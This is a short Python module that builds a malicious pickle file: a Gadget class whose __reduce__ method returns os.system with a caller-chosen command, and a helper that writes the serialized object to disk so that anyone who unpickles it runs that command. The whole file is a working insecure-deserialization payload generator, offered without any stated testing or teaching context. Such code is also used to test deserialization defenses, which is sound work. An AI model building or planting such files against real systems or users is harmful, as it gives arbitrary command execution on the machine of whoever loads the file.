"""A pickle that runs a command."""

from __future__ import annotations

import os
import pickle
from pathlib import Path
from typing import Any


class Gadget:
    """Pickled, it makes whoever unpickles it run a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def write_pickle(path: Path, command: str) -> None:
    """A file that runs the command when it is unpickled."""
    path.write_bytes(pickle.dumps(Gadget(command)))
